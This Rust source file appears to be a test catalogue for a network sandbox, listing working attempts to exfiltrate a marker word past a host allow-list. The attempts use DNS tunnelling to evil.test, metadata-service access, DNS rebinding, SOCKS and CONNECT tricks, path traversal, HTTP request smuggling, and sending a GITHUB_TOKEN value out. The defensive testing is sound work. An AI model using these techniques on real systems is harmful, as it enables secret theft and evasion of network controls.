//! Owns the list of ways out through a network in which some hosts are listed.
//!
//! Each tries to carry a word to where it may not go; the word is the last argument of its attempt.

use std::io;
use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr};

use super::speak::{
    ask_proxy, datagram, question, question_of_type, resolver, say, say_to, socks, socks_name, socks4, tunnel,
};

/// A host that may be reached, by every request.
pub(super) const LISTED: &str = "listed.test";
/// One that may be read from below `/v1/`.
pub(super) const SOME: &str = "some.test";
/// A listed one whose name leads to where no name may lead.
pub(super) const REBOUND: &str = "rebound.test";

/// One way.
pub(super) struct Way {
    pub(super) name: &'static str,
    pub(super) what: &'static str,
    /// Its twin, by the same door, to where one may go.
    pub(super) twin: &'static str,
    pub(super) evidence: Evidence,
    pub(super) attempt: fn(&str) -> io::Result<()>,
}

/// By what it is known that a way led out.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Evidence {
    /// A server heard its word.
    Heard,
    /// What came back held what nobody inside may have; that is the word of the program inside, which is ours.
    Answer,
}

/// What must lead out with shieldrun as well, or a door that is shut to all looks like a strong one.
pub(super) const TWINS: &[Way] = &[
    twin("by-name", |word| say_to(LISTED, 80, &get(LISTED, word))),
    twin("by-tunnel", |word| tunnel("listed.test:80", &get(LISTED, word))),
    twin("by-proxy", |word| ask_proxy(&by_proxy(LISTED, word))),
    twin("by-socks", |word| socks(1, &socks_name(LISTED.as_bytes()), 80, &get(LISTED, word))),
    twin("by-request", |word| say_to(SOME, 80, &get(SOME, &format!("v1/{word}")))),
];

pub(super) const WAYS: &[Way] = &[
    way("dns", "a word in a name that is asked for", "by-name", |word| {
        datagram(resolver(), &question(&[word.as_bytes(), b"evil", b"test"])).map(drop)
    }),
    way("dns-below-listed", "the same, below a listed name", "by-name", |word| {
        datagram(resolver(), &question(&[word.as_bytes(), b"listed", b"test"])).map(drop)
    }),
    way("dns-text", "a question for a text", "by-name", |word| {
        datagram(resolver(), &question_of_type(&[word.as_bytes(), b"evil", b"test"], 16)).map(drop)
    }),
    way("dns-nul", "a name with a NUL behind a listed one", "by-name", |word| {
        datagram(resolver(), &question(&[b"listed", b"test\0", word.as_bytes()])).map(drop)
    }),
    way("dns-two-questions", "a second question behind a listed name", "by-name", |word| {
        let mut both = question(&[b"listed", b"test"]);
        let second = question(&[word.as_bytes(), b"evil", b"test"]);
        both.extend_from_slice(second.get(12..).unwrap_or_default());
        if let Some(count) = both.get_mut(5) {
            *count = 2;
        }
        datagram(resolver(), &both).map(drop)
    }),
    way("dns-padding", "a word behind a question for a listed name", "by-name", |word| {
        datagram(resolver(), &[&question(&[b"listed", b"test"]), word.as_bytes()].concat()).map(drop)
    }),
    way("dns-tcp", "a name, asked for over TCP", "by-name", |word| {
        let question = question(&[word.as_bytes(), b"evil", b"test"]);
        let length = u16::try_from(question.len()).unwrap_or(0);
        say(resolver(), &[&length.to_be_bytes(), question.as_slice()].concat())
    }),
    way("dns-other-server", "another server of names", "by-name", |word| {
        let question = question(&[word.as_bytes(), b"evil", b"test"]);
        datagram(at([203, 0, 113, 53], 53), &question).map(drop)
    }),
    way("dns-other-server-tcp", "another server of names, over TCP", "by-name", |word| {
        say(at([203, 0, 113, 53], 53), word.as_bytes())
    }),
    way("address", "an address, without a name", "by-name", |word| {
        say(at([203, 0, 113, 80], 80), &get("evil.test", word))
    }),
    way("address-tls", "an address, at the port of TLS", "by-name", |word| {
        say(at([203, 0, 113, 80], 443), word.as_bytes())
    }),
    way("address-of-listed", "the address of a listed host, without its name", "by-name", |word| {
        say(at([192, 0, 2, 80], 80), &get(LISTED, word))
    }),
    way("address-of-doors", "an address of the kind that names have inside", "by-name", |word| {
        say(at([198, 18, 77, 77], 80), &get(LISTED, word))
    }),
    way("address-ipv6", "an address of IPv6", "by-name", |word| {
        let to = Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 0x80);
        say(SocketAddr::from((to, 80)), &get("evil.test", word))
    }),
    way("address-mapped", "an address of IPv4, written as one of IPv6", "by-name", |word| {
        let to = Ipv4Addr::new(203, 0, 113, 80).to_ipv6_mapped();
        say(SocketAddr::from((to, 80)), &get("evil.test", word))
    }),
    way("metadata", "a cloud's metadata service", "by-name", |word| {
        say(at([169, 254, 169, 254], 80), &get("169.254.169.254", word))
    }),
    way("private-address", "a private address", "by-name", |word| {
        say(at([10, 0, 0, 1], 80), &get("10.0.0.1", word))
    }),
    way("rebinding", "a listed name that leads to the metadata service", "by-name", |word| {
        say_to(REBOUND, 80, &get(REBOUND, word))
    }),
    way("port", "a port of a listed host that is not listed", "by-name", |word| {
        say_to(LISTED, 22, word.as_bytes())
    }),
    way("udp", "a datagram to a listed host", "by-name", |word| {
        let to = super::speak::address_of(LISTED)?;
        datagram(SocketAddr::new(to, 443), word.as_bytes()).map(drop)
    }),
    way("udp-address", "a datagram to an address", "by-name", |word| {
        datagram(at([203, 0, 113, 123], 123), word.as_bytes()).map(drop)
    }),
    way("tunnel", "a tunnel to a host that is not listed", "by-tunnel", |word| {
        tunnel(&format!("{word}.evil.test:443"), word.as_bytes())
    }),
    way("tunnel-port", "a tunnel to a port that is not listed", "by-tunnel", |word| {
        tunnel("listed.test:22", word.as_bytes())
    }),
    way("tunnel-metadata", "a tunnel to the metadata service", "by-tunnel", |word| {
        tunnel("169.254.169.254:80", &get("169.254.169.254", word))
    }),
    way("tunnel-rebinding", "a tunnel to a name that leads there", "by-tunnel", |word| {
        tunnel("rebound.test:80", &get(REBOUND, word))
    }),
    way("tunnel-two-hosts", "a tunnel to `listed@unlisted`", "by-tunnel", |word| {
        tunnel(&format!("listed.test:80@{word}.evil.test:80"), word.as_bytes())
    }),
    way("tunnel-some", "a tunnel to a host that may be read from", "by-tunnel", |word| {
        tunnel("some.test:80", &post(SOME, "v1/x", word))
    }),
    way("proxy", "a proxy's request for a host that is not listed", "by-proxy", |word| {
        ask_proxy(&by_proxy("evil.test", word))
    }),
    way("proxy-host", "a listed host, and another in `Host`", "by-proxy", |word| {
        ask_proxy(&format!("GET http://listed.test/ HTTP/1.1\r\nHost: {word}.evil.test\r\n\r\n"))
    }),
    way("proxy-two-hosts", "two headers `Host`", "by-proxy", |word| {
        let two = format!("Host: listed.test\r\nHost: {word}.evil.test\r\n\r\n");
        ask_proxy(&format!("GET http://listed.test/ HTTP/1.1\r\n{two}"))
    }),
    way("proxy-second-request", "a second request behind a listed one", "by-proxy", |word| {
        ask_proxy(&format!("{}{}", by_proxy(LISTED, "first"), by_proxy("evil.test", word)))
    }),
    way("socks", "SOCKS, to a host that is not listed", "by-socks", |word| {
        socks(1, &socks_name(format!("{word}.evil.test").as_bytes()), 80, word.as_bytes())
    }),
    way("socks-nul", "SOCKS, with a NUL behind a listed name", "by-socks", |word| {
        socks(1, &socks_name(format!("listed.test\0.{word}.evil.test").as_bytes()), 80, word.as_bytes())
    }),
    way("socks-address", "SOCKS, to the metadata service", "by-socks", |word| {
        socks(1, &[1, 169, 254, 169, 254], 80, word.as_bytes())
    }),
    way("socks-ipv6", "SOCKS, to the same, written as IPv6", "by-socks", |word| {
        let to = Ipv4Addr::new(169, 254, 169, 254).to_ipv6_mapped();
        socks(1, &[&[4], to.octets().as_slice()].concat(), 80, word.as_bytes())
    }),
    way("socks-port", "SOCKS, to a port that is not listed", "by-socks", |word| {
        socks(1, &socks_name(LISTED.as_bytes()), 22, word.as_bytes())
    }),
    way("socks-some", "SOCKS, to a host that may be read from", "by-socks", |word| {
        socks(1, &socks_name(SOME.as_bytes()), 80, &post(SOME, "v1/x", word))
    }),
    way("socks-bind", "SOCKS, to listen outside", "by-socks", |word| {
        socks(2, &socks_name(LISTED.as_bytes()), 80, word.as_bytes())
    }),
    way("socks-udp", "SOCKS, for datagrams", "by-socks", |word| {
        socks(3, &socks_name(LISTED.as_bytes()), 80, word.as_bytes())
    }),
    way("socks4", "SOCKS4 with a name", "by-socks", |word| {
        socks4(&format!("{word}.evil.test"), word.as_bytes())
    }),
    way("request-method", "a POST to a host that may be read from", "by-request", |word| {
        say_to(SOME, 80, &post(SOME, "v1/x", word))
    }),
    way("request-path", "a path of it that is not listed", "by-request", |word| {
        say_to(SOME, 80, &get(SOME, word))
    }),
    way("request-dots", "the same by way of `..`", "by-request", |word| {
        say_to(SOME, 80, &get(SOME, &format!("v1/../{word}")))
    }),
    way("request-dots-encoded", "the same by way of `%2e%2e`", "by-request", |word| {
        say_to(SOME, 80, &get(SOME, &format!("v1/%2e%2e/{word}")))
    }),
    way("request-host", "another host in `Host`", "by-request", |word| {
        say_to(SOME, 80, &get(&format!("{word}.evil.test"), "v1/x"))
    }),
    way("request-second", "a second request behind a listed one", "by-request", |word| {
        say_to(SOME, 80, &[get(SOME, "v1/x"), post(SOME, "v2/x", word)].concat())
    }),
    way("request-smuggled", "one that two readers of the head see in two places", "by-request", |word| {
        let head = "GET /v1/x HTTP/1.1\r\nHost: some.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked";
        let hidden = [b"\r\n\r\n0\r\n\r\n".to_vec(), post(SOME, "v2/x", word)].concat();
        say_to(SOME, 80, &[head.as_bytes(), &hidden].concat())
    }),
    way("request-tls", "TLS to it, in which nobody sees the request", "by-request", |word| {
        say_to(SOME, 80, &[b"\x16\x03\x01\x00\x40", word.as_bytes()].concat())
    }),
    way("variable", "a secret variable, sent to a listed host as it is", "by-name", |word| {
        let value = std::env::var("GITHUB_TOKEN").unwrap_or_default();
        say_to(LISTED, 80, &post(LISTED, "x", &format!("{value} {word}")))
    }),
];

pub(super) const fn way(
    name: &'static str,
    what: &'static str,
    twin: &'static str,
    attempt: fn(&str) -> io::Result<()>,
) -> Way {
    Way { name, what, twin, evidence: Evidence::Heard, attempt }
}

pub(super) const fn answered(
    name: &'static str,
    what: &'static str,
    twin: &'static str,
    attempt: fn(&str) -> io::Result<()>,
) -> Way {
    Way { name, what, twin, evidence: Evidence::Answer, attempt }
}

pub(super) const fn twin(name: &'static str, attempt: fn(&str) -> io::Result<()>) -> Way {
    Way { name, what: "", twin: name, evidence: Evidence::Heard, attempt }
}

fn at(address: [u8; 4], port: u16) -> SocketAddr {
    SocketAddr::from((address, port))
}

pub(super) fn get(host: &str, path: &str) -> Vec<u8> {
    format!("GET /{path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n").into_bytes()
}

pub(super) fn post(host: &str, path: &str, body: &str) -> Vec<u8> {
    let length = body.len();
    format!("POST /{path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {length}\r\n\r\n{body}").into_bytes()
}

fn by_proxy(host: &str, path: &str) -> String {
    format!("GET http://{host}/{path} HTTP/1.1\r\nHost: {host}\r\n\r\n")
}
